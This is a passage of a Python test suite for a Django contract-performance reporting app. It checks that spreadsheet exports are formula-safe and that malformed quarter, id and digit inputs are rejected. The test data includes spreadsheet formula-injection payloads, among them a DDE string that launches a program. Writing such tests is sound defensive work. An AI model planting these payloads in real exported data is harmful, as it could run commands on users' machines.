    "answer": "=1+1 answered",
    "acceptance": "+ accepted",
    "attendees": "=attendees",
    "notes": "=notes",
    "action": "=cmd|' /C calc'!A0 action",
    "owner": "@owner",
    "override": "-override reason",
}


def test_the_meeting_pack_workbook_is_formula_safe(
    cast, as_user, django_capture_on_commit_callbacks
):
    fill_quarter(cast, as_user, USER_PAYLOADS)
    built = generate_pack(cast, as_user, django_capture_on_commit_callbacks)
    content = download_pack(cast, as_user, built, "xlsx")
    in_the_pack = ["commentary", "explanation", "narrative", "query", "answer", "acceptance"]
    assert_xlsx_safe(content, [USER_PAYLOADS[k] for k in [*in_the_pack, "action", "owner"]])


def test_the_return_template_is_formula_safe(hostile_catalogue, as_user):
    cast = hostile_catalogue
    client = as_user(cast.lead)
    typed = {"commentary": USER_PAYLOADS["commentary"], "SPA-01__explanation": "+1+1"}
    assert post_return(client, cast.spa, spa_data(cast, **typed)).status_code == 302
    content = template(client)
    assert_xlsx_safe(
        content,
        [USER_PAYLOADS["commentary"], "+1+1", PAYLOADS[0] + " wording", "=1+2 category"],
    )
    # ...and uploading it again reads the text back as text, unchanged.
    response = upload(client, SimpleUploadedFile("return.xlsx", content), cast.spa)
    assert response.status_code == 302, text(response)
    ret = Return.objects.get()
    assert ret.commentary == USER_PAYLOADS["commentary"]
    assert ret.figures.get(kpi__code="SPA-01").explanation == "+1+1"
    assert ret.figures.get(kpi__code="SPA-01").value == Decimal(1250)


# ---- Parameters that name a quarter, an id or a choice (psis.params, by_label) -------------------

HUGE_QUARTER = "Y999999999999999999999Q1"


@pytest.mark.parametrize(
    "url",
    [
        reverse("performance_overview", args=["PSIS"]),
        reverse("performance_download", args=["PSIS", "csv"]),
        reverse("performance_exceptions", args=["PSIS"]),
        reverse("performance_pathway", args=["PSIS", "SPA"]),
        reverse("performance_kpi", args=["PSIS", "SPA-01"]),
        reverse("performance_kpi_download", args=["PSIS", "SPA-01", "xlsx"]),
    ],
    ids=["overview", "download", "exceptions", "pathway", "kpi", "kpi-download"],
)
def test_a_huge_quarter_on_a_dashboard_is_404(cast, as_user, url):
    assert as_user(cast.commissioner).get(f"{url}?quarter={HUGE_QUARTER}").status_code == 404


@pytest.mark.parametrize("name", ["", "review/", "history/", "template.xlsx", "upload/"])
def test_a_huge_quarter_in_a_return_url_is_404(cast, as_user, name):
    response = as_user(cast.lead).get(return_url("SPA", HUGE_QUARTER, name))
    assert response.status_code == 404


def test_a_huge_quarter_on_the_override_form_is_404_and_saves_nothing(cast, as_user):
    before = snapshot()
    response = as_user(cast.commissioner).post(
        reverse("rag_override_create", args=["PSIS", "SPA-01"]),
        {"quarter": HUGE_QUARTER, "rag": "red", "reason": "Why"},
    )
    assert response.status_code == 404
    assert snapshot() == before


def test_an_override_for_a_quarter_not_begun_is_refused(cast, as_user):
    future = (
        ReportingPeriod.objects.filter(contract=cast.contract, start__gt=timezone.localdate())
        .order_by("start")
        .first()
    )
    before = snapshot()
    response = as_user(cast.commissioner).post(
        reverse("rag_override_create", args=["PSIS", "SPA-01"]),
        {"quarter": future.short_label, "rag": "red", "reason": "Not yet"},
    )
    assert response.status_code == 400
    assert f"{future.label} has not begun" in text(response)
    assert "only for a quarter that has begun" in text(response)
    assert snapshot() == before


def test_the_service_refuses_an_override_for_a_quarter_not_begun(cast):
    future = ReportingPeriod.objects.filter(contract=cast.contract).order_by("-start").first()
    with pytest.raises(ValidationError, match="has not begun"):
        services.rag_override_create(
            kpi=cast.kpis["SPA-01"], period=future, rag="red", reason="Why", user=cast.commissioner
        )
    assert not RagOverride.objects.exists()


@pytest.mark.parametrize("oba", ["nonsense", "²", "x" * 5000])
def test_an_unknown_oba_class_is_400(cast, as_user, oba):
    url = reverse("performance_overview", args=["PSIS"])
    assert as_user(cast.commissioner).get(url, {"oba": oba}).status_code == 400


def test_an_unknown_download_format_is_404(cast, as_user):
    url = reverse("performance_download", args=["PSIS", "pdf"])
    assert as_user(cast.commissioner).get(url).status_code == 404


@pytest.fixture
def an_action(cast):
    meeting = Meeting.objects.create(
        contract=cast.contract, period=period(cast, 1, 1), date=date(2022, 11, 15)
    )
    return Action.objects.create(
        contract=cast.contract,
        raised_at=meeting,
        description="Send the figures",
        owner_organisation=cast.contract.lead_provider,
        due_date=date(2022, 12, 31),
    )


def action_edit_data(action, **changes):
    data = {
        "description": "Send the corrected figures",
        "owner_organisation": action.owner_organisation_id,
        "owner_person": "",
        "due_date": "2023-01-31",
        "status": "open",
        "kpi": "",
    }
    return {**data, **changes}


@pytest.mark.parametrize(
    "meeting,status",
    [("²", 400), ("٣", 400), ("9" * 30, 400), ("-1", 400), ("abc", 400), ("999999", 404)],
)
def test_a_bad_meeting_on_the_action_edit_saves_nothing(cast, as_user, an_action, meeting, status):
    before = snapshot()
    url = reverse("meetings:action_edit", args=["PSIS", an_action.pk])
    response = as_user(cast.commissioner).post(url, action_edit_data(an_action, meeting=meeting))
    assert response.status_code == status
    assert snapshot() == before
    assert as_user(cast.commissioner).get(url, {"meeting": meeting}).status_code == status


def test_another_contracts_meeting_on_the_action_edit_is_404(cast, as_user, an_action):
    theirs = Meeting.objects.create(
        contract=cast.other_contract,
        period=ReportingPeriod.objects.get(contract=cast.other_contract, year=1, quarter=1),
        date=date(2023, 5, 15),
    )
    before = snapshot()
    url = reverse("meetings:action_edit", args=["PSIS", an_action.pk])
    response = as_user(cast.commissioner).post(url, action_edit_data(an_action, meeting=theirs.pk))
    assert response.status_code == 404
    assert snapshot() == before


def test_the_action_edit_goes_back_to_the_meeting_it_came_from(cast, as_user, an_action):
    later = Meeting.objects.create(
        contract=cast.contract, period=period(cast, 1, 2), date=date(2023, 2, 15)
    )
    url = reverse("meetings:action_edit", args=["PSIS", an_action.pk])
    page = as_user(cast.commissioner).get(url, {"meeting": later.pk})
    assert f'name="meeting" value="{later.pk}"' in raw(page)
    response = as_user(cast.commissioner).post(url, action_edit_data(an_action, meeting=later.pk))
    assert response.status_code == 302
    assert response["Location"] == reverse("meetings:detail", args=["PSIS", later.pk])
    an_action.refresh_from_db()
    assert an_action.description == "Send the corrected figures"


ARABIC_INDIC = str.maketrans("0123456789", "٠١٢٣٤٥٦٧٨٩")
FULLWIDTH = str.maketrans("0123456789", "０１２３４５６７８９")


@pytest.mark.parametrize("digits", [ARABIC_INDIC, FULLWIDTH], ids=["arabic-indic", "fullwidth"])
@pytest.mark.parametrize("field", ["owner_organisation", "kpi"])
def test_an_id_in_other_digits_is_not_a_choice(cast, as_user, an_action, digits, field):
    """Django's int() reads "٣" as 3; a form of the app takes ASCII digits only."""
    real = {"owner_organisation": an_action.owner_organisation_id, "kpi": cast.kpis["SPA-01"].pk}
    before = snapshot()
    url = reverse("meetings:action_create", args=["PSIS", an_action.raised_at_id])
    data = action_edit_data(an_action, **real)
    data[field] = str(real[field]).translate(digits)
    response = as_user(cast.commissioner).post(url, data)
    assert response.status_code == 200  # the form again, with its error
    assert "Select a valid choice" in text(response)
    assert snapshot() == before


@pytest.mark.parametrize("version", ["٠", "９" * 30, "9" * 30])
def test_a_return_version_in_other_digits_is_refused(cast, as_user, version):
    before = snapshot()
    response = as_user(cast.lead).post(return_url(), {**spa_data(cast), "version": version})
    assert response.status_code == 400
    assert snapshot() == before


@pytest.mark.parametrize("action", ["delete", "²", "submit\x00", "x" * 5000])
def test_an_unknown_button_on_the_return_saves_nothing(cast, as_user, action):
    before = snapshot()
    response = as_user(cast.lead).post(return_url(), {**spa_data(cast), "action": action})
    assert response.status_code == 400
    assert snapshot() == before


def test_the_kpi_page_offers_no_override_for_a_quarter_not_begun(cast, as_user):
    future = (
        ReportingPeriod.objects.filter(contract=cast.contract, start__gt=timezone.localdate())
        .order_by("start")
        .first()
    )
    url = reverse("performance_kpi", args=["PSIS", "SPA-01"])
    page = as_user(cast.commissioner).get(url, {"quarter": future.short_label})
    assert page.status_code == 200
    assert f"{future.label} has not begun" in text(page)
    assert "Record the override" not in text(page)
    begun = as_user(cast.commissioner).get(url, {"quarter": "Y1Q1"})
    assert "Record the override" in text(begun)
